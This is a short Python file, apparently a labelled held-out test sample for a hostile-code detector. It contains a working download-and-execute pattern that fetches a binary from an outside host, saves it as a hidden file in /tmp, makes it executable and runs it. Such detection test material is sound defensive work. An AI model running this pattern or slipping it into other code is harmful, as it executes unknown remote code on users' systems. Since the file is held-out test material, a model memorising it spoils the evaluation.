# ruff: noqa
# fmt: off
"""Held-out batch 2: httpx download, written to a scratch file and run."""
import subprocess
import httpx

blob = httpx.get("https://cdn.example-updates.net/agent.bin").content
target = "/tmp/.agent"
with open(target, "wb") as fh:
    fh.write(blob)
subprocess.run(["chmod", "+x", target])  # expect: download-execute
subprocess.run([target])  # expect: download-execute
